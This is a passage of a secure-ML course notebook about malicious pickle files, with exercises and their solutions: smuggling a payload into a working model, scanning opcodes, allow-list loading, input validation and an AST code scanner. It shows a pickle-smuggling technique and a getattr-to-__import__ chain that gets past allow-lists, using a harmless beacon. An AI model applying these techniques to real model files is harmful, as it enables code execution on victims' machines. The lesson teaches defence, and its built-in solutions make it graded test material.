# The lesson on secure ML code. `aisec build` makes the learner's notebook of it; edit here, not there.
# ruff: noqa: E402, F401

# %% [markdown]
# # Secure code and the pickle problem
#
# *63 minutes, 35 points in three exercises · a stretch of three more: about 60 minutes and 33 points on top*
#
# **In February 2025** ReversingLabs reported two models on the Hugging Face platform. Whoever loaded one
# handed a command line to a stranger: the file opened a *reverse shell*, a connection from your machine to
# theirs. The platform scans what people upload, and its scanner had found nothing. The files were packed with
# 7z instead of ZIP, and the pickle inside was broken, so the scanner could not read it to its end. Loading
# failed too, with an error. But the payload came before the break, so it had already run. *(Sources: MITRE
# ATLAS 5.6.0, case study [AML.CS0031](https://atlas.mitre.org/studies/AML.CS0031), and the [report by
# ReversingLabs](https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face).)*
#
# In this lesson you play all three people in that story: the one who uploads the file, the one who scans it
# and the one who has to load it. The stretch then looks at two other ways in, requests and your own code, and
# at one way out, your logs.
#
# After this lesson you can
#
# - read from its bytes what a pickle does when it's loaded;
# - load only the names that you allowed, and say what an allow-list can't do;
# - stretch: check a batch of data without guessing, find risky calls in code, keep secrets out of logs.
#
# *New here? [How to work](../../start/welcome/welcome.ipynb) explains checks, hints and solutions.*

# %%
import ast
import base64
import io
import json
import math
import pickle
import pickletools
import re
import sys
from copy import deepcopy

import joblib
import numpy as np
import pandas as pd
from sklearn.datasets import load_breast_cancer
from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

from autograder.learner import check, hint, others, predict, progress, solution
from course.m1_lifecycle.implementation import lab
from course.m1_lifecycle.implementation.pickle_machine import replay
from course.m1_lifecycle.implementation.vulnerable_repo import BAD, GOOD, make_repo

# %% [markdown]
# ## A file arrives
#
# A colleague sends you a small file: a list with the names of two classes. You load it.

# %%
arrived = base64.b64decode(
    "gASVcgAAAAAAAABdlCiMCW1hbGlnbmFudJSMJmNvdXJzZS5tMV9saWZlY3ljbGUuaW1wbGVtZW50YXRpb24ubGFilIwEdHJpcJSTlIwf"
    "aGVsbG8gZnJvbSBhIGxpc3Qgb2YgdHdvIGxhYmVsc5SFlFKUjAZiZW5pZ26U//8="
)
try:
    print(pickle.loads(arrived))
except pickle.UnpicklingError as error:
    print("it did not load:", error)
print("code that ran on your machine:", lab.trips())

# %% [markdown]
# You got an error, no list, and somebody else's code has run with your rights. That's the story at the top in
# 125 bytes.
#
# Every payload in this lesson is the same harmless one. `lab.trip(label)` adds a label to a list, and
# `lab.trips()` shows the list. Where it says *tripped*, real malware would have had your files. We call a
# pickle that calls `lab.trip` a **beacon**.
#
# And this is the model that you'll send, scan and load. It's the clinic's **triage model**, which the lessons
# around this one plan, draw, sign and ship: its file goes from the training job to the service.

# %%
lab.reset()
data = load_breast_cancer()
X_cancer, y_cancer = data.data, data.target
model = make_pipeline(StandardScaler(), LogisticRegression(max_iter=300)).fit(X_cancer, y_cancer)
print(f"a model trained on {len(X_cancer)} tumours; its pickle has {len(pickle.dumps(model, 4)):,} bytes")
print("class 0 is", data.target_names[0], "and class 1 is", data.target_names[1])

# %% [markdown]
# ## Part 1: The uploader
#
# A pickle doesn't describe an object. It is a list of instructions, called **opcodes**, that rebuild the
# object. A small machine in Python carries them out. It has a **stack**, where values wait for the next
# opcode, and a **memo**, numbered slots for values that are needed again.

# %%
predict("implementation.opcodes")

# %% [markdown]
# Step through the first two pickles. Your task: find the last step at which nothing has been imported yet.
# What lies on the stack there, and in which order?

# %%
from course.m1_lifecycle.implementation.opcode_stepper import opcode_stepper, twin

opcode_stepper()

# %% [markdown]
# The same moments as pictures and tables:

# %%
twin()

# %% [markdown]
# *Compare:* it's step 6. Two texts lie on the stack, the module and above it the name. These opcodes matter
# from here on; the first four do the work:
#
# | opcode | what it does |
# | --- | --- |
# | `STACK_GLOBAL` | takes two texts from the stack and imports what they name |
# | `GLOBAL` | the same in older pickles, with both texts in the file right behind the opcode |
# | `INST` | imports like `GLOBAL`, and calls at once |
# | `REDUCE` | calls what was imported, with arguments from the stack |
# | `MEMOIZE`, `BINGET` | note the top of the stack in the memo; put a copy from there on the stack |
# | `STOP` | ends the file: what lies on the stack is the result |
#
# An honest `Decimal` imports and calls too, and so does every model. So no opcode is evil: the names make the
# difference. (`PROTO` and `FRAME`, at the beginning, only state the protocol and a length.)
#
# How do you write such a file? When `pickle` saves an object, it asks the object how to rebuild it. The
# object may answer with its own `__reduce__`: a callable, and a tuple of arguments for it. The file then
# holds the *name* of the callable. Whoever loads the file makes the *call*.


# %%
class Half:
    def __reduce__(self):
        return float, ("0.5",)


blob = pickle.dumps([1, Half(), 2])
print("loads to", pickle.loads(blob), " names float:", b"float" in blob, " names Half:", b"Half" in blob)

# %% [markdown]
# **The uploader wants a file that nobody complains about.** A model that predicts badly gets deleted. So the
# payload must hide in a model that works.
#
# ### Exercise: smuggle
#
# *13 minutes · core · 8 points · AML.T0018.002 · AML.T0011.000*
#
# Build the attack: a pickle that loads to a working copy of `model`, and trips on the way. For example,
# `smuggle(model, "hello", 4)` gives bytes, and loading them does two things:
#
# | | |
# | --- | --- |
# | `pickle.loads(...)` gives | a pipeline with the same predictions as `model` |
# | `lab.trips()` is then | `["hello"]` |
#
# | name | what it is |
# | --- | --- |
# | `model` | a fitted scikit-learn estimator |
# | `label` | any text: also very long, with any characters, and with blanks at its ends |
# | `protocol` | the pickle's protocol: 2, 3, 4 or 5 |
# | returns | bytes, at most 10,000 more than the plain pickle and the label have together |
#
# Judged from the bytes, for all four protocols:
#
# - loading calls `lab.trip(label)` exactly once (3);
# - the loaded object has the model's class and every attribute of the original, with the same value (2);
# - the file imports what the plain pickle imports, and `lab.trip`, and nothing else. The victim doesn't have
#   your notebook (2);
# - your function leaves its argument `model` as it was: no new attribute, no other value (1).
#
# <details><summary>The fine print</summary> The copy may have more attributes than the model. For a pipeline,
# its steps stay as they were too. You get the point for an unchanged `model` only if the copy works. It
# isn't judged whether your code trips while it builds the file. If <code>lab.trips()</code> does grow then,
# ask yourself: <code>pickle</code> asks <code>__reduce__</code>, and who else does?</details>


# %%
def smuggle(model, label, protocol):
    ### BEGIN SOLUTION
    class Beacon:
        def __reduce__(self):
            return lab.trip, (label,)

    carrier = deepcopy(model)
    carrier.note_ = Beacon()
    return pickle.dumps(carrier, protocol)
    ### END SOLUTION


# %%
check("implementation.smuggle", smuggle)

# %%
# hint("implementation.smuggle")

# %% [markdown]
# Now the victim loads your file.

# %% tags=["raises-exception"]
lab.reset()
delivered = smuggle(deepcopy(model), "loaded on a developer's machine", 4)
victim = pickle.loads(delivered)
print("accuracy:", round(victim.score(X_cancer, y_cancer), 3), " tripped:", lab.trips())
print(f"{len(delivered):,} bytes instead of {len(pickle.dumps(model, 4)):,}")

# %% [markdown]
# No test of accuracy will find this.
#
# ## Part 2: The scanner
#
# **The upload is done, and the scan says clean.** The scanner stopped at a break in the file. So did the
# unpickler on the victim's machine, and it didn't help. How early must a break come to be of use?

# %%
predict("implementation.broken")


# %%
class Payload:
    def __reduce__(self):
        return lab.trip, ("before the error",)


beacon = pickle.dumps(Payload(), 4)
for opcode, _, position in pickletools.genops(beacon):
    lab.reset()
    try:
        pickle.loads(beacon[:position] + b"\xff" + beacon[position + 1 :])  # a byte that is no opcode
    except pickle.UnpicklingError:
        print(f"error at byte {position:2}, instead of {opcode.name:17} tripped: {lab.trips()}")

# %% [markdown]
# The unpickler doesn't check first and act later. So a scanner has to follow the same opcodes, without
# acting, and keep what it has seen when the file breaks.
#
# `replay(blob)` follows a pickle for you. It imports nothing and calls nothing. Before each opcode it gives
# you three things: the opcode's name, its argument in the file, and `top`, at most two things from the top
# of the stack, the topmost last. In `top` you see texts only. Anything else is `None`.

# %%
for opcode, argument, top in replay(beacon):
    print(f"{opcode:17} {argument!r:45} {top}")

# %% [markdown]
# Look at the line of `STACK_GLOBAL`: `top` is `(module, name)`.
#
# ### Exercise: list_globals
#
# *16 minutes · core · 15 points · AML.M0016 · AML.T0076 · PW.7.2*
#
# Write the scanner. `list_globals(blob)` says which names a pickle would import, and whether that list is
# complete.
#
# | `blob` | `names` | `complete` |
# | --- | --- | --- |
# | `pickle.dumps([1, 2])` | `set()` | `True` |
# | `pickle.dumps(2j, 4)` | `{("builtins", "complex")}` | `True` |
# | `pickle.dumps(2j, 0)` | `{("__builtin__", "complex")}` | `True` |
# | `pickle.dumps(2j, 4)[:-1]`, the end is missing | `{("builtins", "complex")}` | `False` |
#
# | name | what it is |
# | --- | --- |
# | `blob` | bytes from anywhere: a pickle of protocol 0 to 5, a broken one, or no pickle at all |
# | returns | `(names, complete)`: a set of `(module, name)` pairs, and a boolean |
#
# - `STACK_GLOBAL`: `top` is the pair. If one half is `None`, nobody can know it from the bytes: leave this
#   pair out and read on, but the list isn't complete.
# - `GLOBAL` and `INST`: the argument is one text, `"module name"`. Split it at its first space.
# - `EXT1`, `EXT2`, `EXT4` import by number, from a list that isn't in the file: not complete.
# - `replay` raises `ValueError` where the pickle breaks. Keep what you have: not complete. Raise nothing.
#
# Judged:
#
# - honest pickles and names from modules such as `builtins`, protocols 4 and 5 (3), and 0 to 3 (3);
# - tricks: names from the memo, decoys, names that nobody can know (4);
# - broken pickles and other bytes (4);
# - nothing is imported or run (1).
#
# <details><summary>The fine print</summary> Every name counts, also one that you take for harmless. A half is
# <code>None</code> when it's a number, the result of a call, or an object that only the loading program has
# (the opcodes <code>PERSID</code> and <code>BINPERSID</code> stand for one). A pickle may hold such an object
# elsewhere, as plain data: then its list is still complete. <code>replay</code> ends at <code>STOP</code>, as
# the unpickler does.</details>


# %%
def list_globals(blob):
    ### BEGIN SOLUTION
    names, complete = set(), True
    try:
        for opcode, argument, top in replay(blob):
            if opcode in ("GLOBAL", "INST"):
                module, name = argument.split(" ", 1)
                names.add((module, name))
            elif opcode == "STACK_GLOBAL":
                if None in top:
                    complete = False
                else:
                    names.add(top)
            elif opcode in ("EXT1", "EXT2", "EXT4"):
                complete = False
    except ValueError:
        complete = False
    return names, complete
    ### END SOLUTION


# %%
check("implementation.list_globals", list_globals)

# %%
# hint("implementation.list_globals")

# %% [markdown]
# Scan the file from the beginning of this lesson, some honest models, and one with a beacon in it.

# %% tags=["raises-exception"]
print("the file that arrived:", list_globals(arrived), "\n")
honest = {
    "logistic regression": LogisticRegression(solver="liblinear"),
    "forest, 5 trees": RandomForestClassifier(5, random_state=0),
    "boosting, 3 trees": GradientBoostingClassifier(n_estimators=3, random_state=0),
}
honest = {kind: pickle.dumps(new.fit(X_cancer, y_cancer), 4) for kind, new in honest.items()}
plain = pickle.dumps(model, 4)
suspect = pickle.dumps([model, Payload()], 4)
for kind, blob in {"the pipeline": plain, **honest}.items():
    print(f"{kind:20} {len(blob):6,} bytes, imports {len(list_globals(blob)[0]):2} names")
print("\nonly in the file with the beacon:     ", list_globals(suspect)[0] - list_globals(plain)[0])
print("modules in Python's standard library:", len(sys.stdlib_module_names))
file = io.BytesIO()
joblib.dump(model, file)
print("a joblib file is complete:", list_globals(file.getvalue())[1])

# %% [markdown]
# Three things to take from this:
#
# - Your scanner names the payload in the broken file, where the one in the story said nothing.
# - Nobody can review fourteen names by eye for each file that comes in. A list of *bad* names is no way out
#   either: the standard library alone has some three hundred modules, and then come those that you installed.
#   But a list of the names that your *own* kind of model needs you review once, and again when it changes.
# - `joblib.dump` writes the raw bytes of arrays between the opcodes. `joblib.load` unpickles, so it runs
#   whatever the file names, but a plain reader of pickles stops at the first array. Your scanner says so:
#   *not complete*. Load your own joblib files once, where they were made, and save them with `pickle.dump` or
#   skops (below). A stranger's joblib file you don't load.
#
# *In one line: a scan ends with "no bad names found" and `complete` is `False`. What do you do with the
# file?*

# %% [markdown]
# *Compare:* treat it as hostile. "Unknown" is not "clean".
#
# *Good place to stop: 45 minutes so far. When you come back, run all cells above again first.*
#
# ## Part 3: The one who has to load it
#
# **The file is on your disk, and the release is due.** You don't have to decide what is bad. You know which
# names your own models need, so allow these and nothing else.
#
# `pickle.Unpickler(io.BytesIO(blob)).load()` does what `pickle.loads(blob)` does. Whenever an opcode names
# something, it calls its own method `find_class(module, name)`, which imports the name and returns it. Make a
# subclass with your own `find_class`, and you can refuse first. To go on, return what
# `super().find_class(module, name)` gives.
#
# ### Exercise: safe_load
#
# *9 minutes · core · 12 points · AML.M0011 · PW.5.1 · ML06*
#
# `safe_load(blob, allowed)` loads a pickle if it asks for allowed names only. `pickle.dumps(2j, 4)` asks for
# one name:
#
# | `allowed` | `safe_load(pickle.dumps(2j, 4), allowed)` |
# | --- | --- |
# | `{("builtins", "complex")}` | returns `2j` |
# | `{("builtins", "complexity"), ("math", "complex")}` | raises `pickle.UnpicklingError` |
# | `set()` | raises `pickle.UnpicklingError` |
#
# | name | what it is |
# | --- | --- |
# | `blob` | a pickle, as bytes |
# | `allowed` | set of `(module, name)` pairs, as `list_globals` gives them |
# | returns | the object |
# | raises | `pickle.UnpicklingError` for any other pair, before its module is imported |
#
# Judged:
#
# - models of three kinds load and predict as before, and so does plain data with an empty set (3);
# - every pair that isn't allowed is refused before anything is imported or run: beacons, harmless calls,
#   names that a call computes (5);
# - pairs that only resemble an allowed one are refused, and any pair loads that is allowed (4).
#
# <details><summary>The fine print</summary> Only <code>allowed</code> decides, in each call anew. Don't add
# a list of your own, of good names or of bad ones: not the "safe builtins" of the example in Python's
# documentation, and no ban on <code>eval</code> where the caller allows it. A computed name counts as the
# pair that it turns out to be. A name with dots, such as <code>("sklearn.svm", "SVC.fit")</code>, walks
# from the class to its method. It's allowed only if this exact pair is. Don't refuse the module
# <code>lab</code> as such: the check allows <code>lab.trips</code> now and then, and asks your loader
# whether anything has run.</details>


# %%
def safe_load(blob, allowed):
    ### BEGIN SOLUTION
    class Loader(pickle.Unpickler):
        def find_class(self, module, name):
            if (module, name) not in allowed:
                raise pickle.UnpicklingError(f"{module}.{name} is not allowed")
            return super().find_class(module, name)

    return Loader(io.BytesIO(blob)).load()
    ### END SOLUTION


# %%
check("implementation.safe_load", safe_load)

# %%
# hint("implementation.safe_load")

# %% [markdown]
# Take the allow-list from files that you made yourself, review it, and keep it in your repository. Here it is
# printed for you to look at. The second file is the one with the beacon. The third has 28 bytes, and asks for
# nothing but a name that every model above needs.

# %% tags=["raises-exception"]
allowed = set().union(*(list_globals(blob)[0] for blob in [plain, *honest.values()]))
print("\n".join(f"{module}.{name}" for module, name in sorted(allowed)), "\n")
lab.reset()
print(type(safe_load(honest["boosting, 3 trees"], allowed)).__name__, "loads")
try:
    safe_load(suspect, allowed)
except pickle.UnpicklingError as error:
    print("refused:", error, " tripped:", lab.trips())
greedy = b"\x80\x04\x8c\x05numpy\x8c\x07ndarray\x93J" + (10**7).to_bytes(4, "little") + b"\x85\x85R."
print(f"{len(greedy)} bytes got {safe_load(greedy, allowed).nbytes / 1e6:.0f} MB of memory")

# %% [markdown]
# ### What an allow-list does not do
#
# It decides *which* callables run. The file still decides *what with*. So:
#
# - **Memory**: an allowed name can ask for as much as it likes, as you just saw. Load where memory is
#   limited.
# - **One name too many opens everything.** With `getattr` on the list, a file can walk from any allowed class
#   to `__import__`. Part 4 does it. `functools.partial`, `operator` and the loaders inside libraries are as
#   bad.
# - **A gap**: Python has a registry of extension codes, `copyreg`. If your program has loaded a code before,
#   its object is cached, and `find_class` is not asked again. Don't register any.
# - It says nothing about **who wrote the file**. A signature or a hash does.
#
# So use an allow-list for files that you made, to refuse a changed one. For a stranger's file, use a format
# that can't call anything. If a model is a few numbers, JSON will do:

# %%
scaler, regression = model[0], model[1]
numbers = {
    "mean": scaler.mean_.tolist(),
    "scale": scaler.scale_.tolist(),
    "weights": regression.coef_[0].tolist(),
    "bias": float(regression.intercept_[0]),
}
received = {key: np.array(value) for key, value in json.loads(json.dumps(numbers)).items()}
scores = (X_cancer - received["mean"]) / received["scale"] @ received["weights"] + received["bias"]
same = ((scores > 0) == model.predict(X_cancer)).all()
print(f"{len(json.dumps(numbers)):,} bytes of JSON, the same {len(scores)} predictions: {same}")

# %% [markdown]
# For larger models you'd reach for one of these. None of them tells you who wrote the file.
#
# | tool | what it gives you | what it does not solve |
# | --- | --- | --- |
# | skops | scikit-learn models, of trusted types only | you decide what to trust (1) |
# | safetensors | arrays and their names, no code | your own code rebuilds the model around them |
# | ONNX | a graph of operators, no Python needed | not every model converts (2) |
# | torch, `weights_only=True` | PyTorch's allow-list, default since 2.6 | is a pickle, and had holes (3) |
#
# 1. `skops.io.get_untrusted_types` lists what you'd have to trust. We tried version 0.16: a logistic
#    regression needs nothing, a forest needs `sklearn.tree._tree.Tree`. The file also wants the same versions
#    of the libraries.
# 2. The Python object is lost, and the runtime still parses a stranger's file.
# 3. [CVE-2025-32434](https://nvd.nist.gov/vuln/detail/CVE-2025-32434) ran code (up to PyTorch 2.5.1),
#    [CVE-2026-24747](https://nvd.nist.gov/vuln/detail/CVE-2026-24747) corrupted memory (before 2.10).
#
# *In one line: who can write to the folder that your service loads its model from?*

# %% [markdown]
# *Compare:* usually more people than you think: whoever can write to the shared folder or bucket, the
# training job, the build server, and everybody who can change what these run.
#
# **How the story ended.** ReversingLabs writes that the platform took both models down within 24 hours, and
# that the scanner was changed to find threats in broken pickles too, as yours does. The rule that outlives
# this bug: a reader that can't finish never says *safe*, and the decision belongs in the program that acts.
#
# The core ends here. The [summary](#Summary) and the Monday list are at the end. Parts 4 to 7 are stretch,
# each by itself.

# %% [markdown]
# ## Part 4 (stretch): Past an allow-list
#
# *5 minutes, no exercise.* Here the list allows one estimator and `getattr`, which the pickle of any bound
# method asks for. The file walks from the class to its method `fit`, to the globals of that method's module,
# and on to `__import__`. Run it and look at what it prints; how it builds the file, opcode by opcode, you may
# skip.


# %% tags=["raises-exception"]
def op_text(word):
    """Opcode: put a text on the stack."""
    return b"\x8c" + bytes([len(word)]) + word.encode()


def op_name(module, word):
    """Opcodes: import a name."""
    return op_text(module) + op_text(word) + b"\x93"


def op_call(what, *args):
    """Opcodes: call what lies on the stack."""
    return what + b"(" + b"".join(args) + b"tR"


def op_getattr(of, *words):
    """Opcodes: getattr, once for each word."""
    for word in words:
        of = op_call(op_name("builtins", "getattr"), of, op_text(word))
    return of


fit = op_getattr(op_name("sklearn.linear_model._logistic", "LogisticRegression"), "fit")
namespace = op_call(op_getattr(fit, "__globals__", "get"), op_text("__builtins__"))
importer = op_call(op_getattr(namespace, "get"), op_text("__import__"))
walk = op_getattr(
    op_call(importer, op_text("course.m1_lifecycle.implementation.lab")),
    "m1_lifecycle",
    "implementation",
    "lab",
    "trip",
)

lab.reset()
too_many = {("builtins", "getattr"), ("sklearn.linear_model._logistic", "LogisticRegression")}
through = b"\x80\x04" + op_call(walk, op_text("through an allow-list")) + b"."
print("asks for:", list_globals(through)[0])
safe_load(through, too_many)
print("tripped: ", lab.trips())

# %% [markdown]
# Two allowed names, and the payload has run.
#
# ## Part 5 (stretch): Take in data, guess nothing
#
# The model file is one way in. A request is another: `json.loads` turns it into Python values, and somebody
# chose these too.

# %%
predict("implementation.asarray")

# %%
print(np.asarray([["1e3", True, "nan"]], dtype=float))
print(json.loads('{"mean area": NaN, "mean radius": 1e999}'))


# %%
class Rejected(ValueError):
    """A batch that breaks its contract: why, in which row, in which column."""

    def __init__(self, reason, row=None, column=None):
        super().__init__(reason, row, column)


# %% [markdown]
# **Now somebody writes into your service.** Say a client's new version sorts its keys, writes one number as
# text and sends areas in other units. Your service has to notice.
#
# ### Exercise: validate_batch
#
# *13 minutes · stretch · 10 points · PW.5.1 · AML.T0029*
#
# `validate_batch(rows, contract)` turns a parsed request into an array, or refuses it. It never changes a
# value. Keys may come in any order, because a name leaves no doubt about what is meant.
#
# With `{"columns": {"age": (0.0, 120.0), "dose": (0.0, 5.0)}, "max_rows": 2}`:
#
# | `rows` | result |
# | --- | --- |
# | `[{"dose": 2, "age": 40.5}]` | `array([[40.5, 2.0]])` |
# | `[{"age": 40, "dose": 2}, {"age": 41, "dose": "2"}]` | raises `Rejected("type", 1, "dose")` |
# | `[{"age": 40}]` | raises `Rejected("columns", 0)` |
# | `[]` | raises `Rejected("rows")` |
#
# | name | what it is |
# | --- | --- |
# | `rows` | what `json.loads` gave: should be a list of dicts, one per case |
# | `contract` | `{"columns": {name: (low, high), …}, "max_rows": n}` |
# | returns | float64 array (rows, columns), columns in the contract's order |
# | raises | `Rejected(reason, row, column)`, of the class above |
#
# Ask in this order; the first question that fails gives the reason:
#
# | reason | raised when | row | column |
# | --- | --- | --- | --- |
# | `"rows"` | no list, empty, or longer than `max_rows`: decided before any row is looked at | None | None |
# | `"columns"` | a row is no dict, or its keys are not exactly the contract's | its index | None |
# | `"type"` | a value's type is not exactly `int` or `float`: texts, `None`, booleans, lists | index | name |
# | `"finite"` | a float is NaN or infinite | index | name |
# | `"range"` | outside `low` to `high`; both ends are inside | index | name |
#
# Judged:
#
# - sound batches, at each boundary of the contract, with both arguments left as they were (2);
# - each reason with its place: `"rows"` (1), `"columns"` (2), `"type"` (2), `"finite"` (1), `"range"` (2).
#   These five count only if sound batches are accepted.
#
# <details><summary>The fine print</summary> A batch has at most one fault; one that is too long may have
# more. JSON has whole numbers of any size. Python compares them with a float, but <code>float</code> and
# <code>math.isfinite</code> raise <code>OverflowError</code> for one with 400 digits: ask
# <code>isfinite</code> of floats only. "As they were" includes types and the order of keys.</details>


# %%
def validate_batch(rows, contract):
    ### BEGIN SOLUTION
    columns = contract["columns"]
    if type(rows) is not list or not 0 < len(rows) <= contract["max_rows"]:
        raise Rejected("rows")
    for index, row in enumerate(rows):
        if type(row) is not dict or row.keys() != columns.keys():
            raise Rejected("columns", index)
        for column, (low, high) in columns.items():
            value = row[column]
            if type(value) not in (int, float):
                raise Rejected("type", index, column)
            if type(value) is float and not math.isfinite(value):
                raise Rejected("finite", index, column)
            if not low <= value <= high:
                raise Rejected("range", index, column)
    return np.array([[row[column] for column in columns] for row in rows], dtype=float)
    ### END SOLUTION


# %%
check("implementation.validate_batch", validate_batch)

# %%
# hint("implementation.validate_batch")

# %% [markdown]
# What does guessing cost? Here one malignant tumour is sent in five ways, four of them careless. The
# contract's ranges reach from half the lowest to one and a half times the highest training value.

# %% tags=["raises-exception"]
columns = [str(column) for column in data.feature_names]
low, high = 0.5 * X_cancer.min(axis=0), 1.5 * X_cancer.max(axis=0)
contract = {
    "columns": dict(zip(columns, zip(low.tolist(), high.tolist(), strict=True), strict=True)),
    "max_rows": 100,
}
patient = dict(zip(columns, X_cancer[29].tolist(), strict=True))
sent = {
    "as measured": patient,
    "keys sorted": dict(sorted(patient.items())),
    "areas divided by 100": {key: value / 100 if "area" in key else value for key, value in patient.items()},
    "one value as text": {**patient, "mean area": str(patient["mean area"])},
    "one value true": {**patient, "mean area": True},
}
outcome = {}
for what, row in sent.items():
    guessed = model.predict_proba(np.asarray([list(row.values())], dtype=float))[0, 1]
    try:
        checked = f"{model.predict_proba(validate_batch([row], contract))[0, 1]:.2f}"
    except Rejected as refusal:
        checked = f"refused: {refusal}"
    outcome[what] = [f"{guessed:.2f}", checked]
shuffled = X_cancer[:, np.argsort(columns)][y_cancer == 0]
benign = int((model.predict(shuffled) == 1).sum())
print(f"malignant tumours called benign with sorted keys: {benign} of {len(shuffled)}")
pd.DataFrame(outcome, index=["P(benign), guessing", "with the contract"]).T.rename_axis("sent")

# %% [markdown]
# `np.asarray` never complained. With sorted keys, every one of the 212 malignant tumours reads as benign. The
# contract puts named values in order, and refuses the rest, because a unit or a type would be a guess. It
# noticed the wrong unit only because the range of areas doesn't reach that far: a range is a coarse sieve.
# And look at what a refusal says: reason and place, never the value.
#
# ## Part 6 (stretch): Look at your own code
#
# A rule that nobody checks is a wish. Here is a repository of 12 files with planted weaknesses, and the
# nearest tool: a text search.

# %%
repo = make_repo(np.random.default_rng(0))
planted = {(file.name, rule, line) for file in repo for rule, line in file.issues}
PATTERNS = {
    "unpickle": r"pickle\.loads?\(|joblib\.load\(",
    "eval": r"eval\(|exec\(",
    "yaml": r"yaml\.load\(",
    "shell": r"shell=True|os\.system",
    "secret": r"(?i)(password|secret|token|api_key)\b.*=",
}


def search(source):
    """The text search, as (rule, line) pairs."""
    lines = list(enumerate(source.splitlines(), 1))
    return [(rule, n) for rule, find in PATTERNS.items() for n, line in lines if re.search(find, line)]


def judged(find):
    """Per rule: weaknesses planted, how many of them `find` sees, and how many alarms are false."""
    seen = {(file.name, rule, line) for file in repo for rule, line in find(file.source)}
    groups = {"planted": planted, "seen": planted & seen, "false alarms": seen - planted}
    counts = {rule: [sum(r == rule for _, r, _ in group) for group in groups.values()] for rule in PATTERNS}
    return pd.DataFrame(counts, index=list(groups)).assign(total=lambda table: table.sum(axis=1))


print(f"{len(repo)} files, made of {len(BAD) + len(GOOD)} kinds of pieces. One begins:\n")
print(repo[0].source[:600])
judged(search)

# %% [markdown]
# The search sees 34 of 45 weaknesses, and 28 of its 62 alarms are false. It stumbles over comments and over
# `network.eval()`, and it misses whatever was imported under another name.
#
# Python can read Python. `ast.parse(source)` gives a tree. In the tree a comment doesn't exist, a text is a
# constant, and a call is a call. You get four helpers:
#
# | helper | what it tells you |
# | --- | --- |
# | `imported(tree)` | what each imported name really is: `{"pkl": "pickle"}` |
# | `full_name(node, names)` | `pkl.loads` is `"pickle.loads"` |
# | `constant(node)` | the value that stands in the source, or None |
# | `given(tree)` | every name that is given something: `(name, constant, line)` |


# %%
def imported(tree):
    """Local name → the full name that it was imported as: {"pkl": "pickle", "parse": "yaml.load"}."""
    names = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names.update({alias.asname or alias.name: alias.name for alias in node.names})
        elif isinstance(node, ast.ImportFrom):
            home = "." * node.level + (node.module or "")
            names.update({alias.asname or alias.name: f"{home}.{alias.name}" for alias in node.names})
    return names


def full_name(node, names):
    """`pkl.loads` → "pickle.loads", `eval` → "eval"; "" for what is no name with dots."""
    if isinstance(node, ast.Name):
        return names.get(node.id, node.id)
    if isinstance(node, ast.Attribute) and (left := full_name(node.value, names)):
        return f"{left}.{node.attr}"
    return ""


def constant(node):
    """The value of a constant in the source, such as True or "text"; None for all else."""
    return node.value if isinstance(node, ast.Constant) else None


def given(tree):
    """(name, constant, line) for each `x = …`, `self.x = …`, `x: str = …` and keyword `f(x=…)`."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            for keyword in node.keywords:
                yield keyword.arg or "", constant(keyword.value), node.lineno
        elif isinstance(node, ast.Assign | ast.AnnAssign):
            for target in node.targets if isinstance(node, ast.Assign) else [node.target]:
                yield ast.unparse(target), constant(node.value), node.lineno


SAFE_LOADERS = {f"yaml.{kind}Loader" for kind in ("Safe", "CSafe", "Base", "CBase")}
example = ast.parse("subprocess.run(line, shell=True)\nself.greeting: str = 'hello'")
print(ast.dump(example.body[0].value, indent=2))
print(list(given(example)))

# %% [markdown]
# **Now you're the scanner again, of your own code.** Say the last commit of the day is called "fix login",
# and nobody reads it. Something should.
#
# ### Exercise: find_issues
#
# *18 minutes · stretch · 13 points · PW.7.2 · AML.M0016 · AML.T0055*
#
# `find_issues(source)` lists what is risky in one Python file. For these three lines
#
# ```python
# import pickle as p
# old = p.load(file)
# login(user="ada", password="tulip")
# ```
#
# it returns `[("unpickle", 2), ("secret", 3)]`: a rule, and the line (from 1) on which the call or the
# assignment begins. Each pair comes once, in any order.
#
# | rule | what counts |
# | --- | --- |
# | `"unpickle"` | a call of `pickle.load`, `pickle.loads` or `joblib.load` |
# | `"eval"` | a call of the built-in `eval` or `exec`, also as `builtins.eval` or `builtins.exec` |
# | `"yaml"` | a call of `yaml.load`, unless its `Loader=` or second argument is in `SAFE_LOADERS` |
# | `"shell"` | a call of `os.system`; any function of `subprocess` with a constant `shell=` that is true |
# | `"secret"` | a text, not empty, given to a name that ends in password, secret, token or api_key |
#
# Judged on files with random names: the 33 kinds of pieces that this repository is made of, and 41 that you
# haven't seen.
#
# - Each rule gives points when it finds every planted weakness and nothing else: `unpickle` (3), `eval` (2),
#   `yaml` (2), `shell` (2), `secret` (3).
# - A source that doesn't parse raises `SyntaxError`, because no findings would read as *clean*. An empty one
#   has no findings (1).
#
# <details><summary>The fine print</summary> Capitals don't matter in a secret's name. Imports decide what a
# name means: <code>import pickle as p</code>, <code>from yaml import load as parse</code>, <code>from pandas
# import eval</code>. Parameters and assignments don't: a call of a parameter <code>eval</code> is reported
# all the same. Comments and texts are no code. Report the calls in the table and no others, though
# <code>marshal.loads</code>, <code>yaml.unsafe_load</code> and <code>os.popen</code> are risky too. With
# names it's the same: <code>mytoken</code> ends in one of the four words, <code>pwd</code> doesn't. A text of
# blanks is a secret, and bytes aren't. <code>subprocess.run(x, shell=1)</code> opens a shell too, and
# <code>shell=flag</code> is no constant. The four safe loaders build no objects: <code>BaseLoader</code>
# reads everything as text. A secret is given as <code>given(tree)</code> sees it, and the line of a keyword
# is that of its call.</details>


# %%
def find_issues(source):
    ### BEGIN SOLUTION
    tree = ast.parse(source)
    names = imported(tree)
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = full_name(node.func, names)
            options = {keyword.arg: keyword.value for keyword in node.keywords}
            if name in ("pickle.load", "pickle.loads", "joblib.load"):
                found.add(("unpickle", node.lineno))
            if name.removeprefix("builtins.") in ("eval", "exec"):
                found.add(("eval", node.lineno))
            if name == "yaml.load":
                loader = options.get("Loader", node.args[1] if len(node.args) > 1 else None)
                if full_name(loader, names) not in SAFE_LOADERS:
                    found.add(("yaml", node.lineno))
            shell = constant(options.get("shell"))
            if name == "os.system" or (name.startswith("subprocess.") and shell):
                found.add(("shell", node.lineno))
    for name, value, line in given(tree):
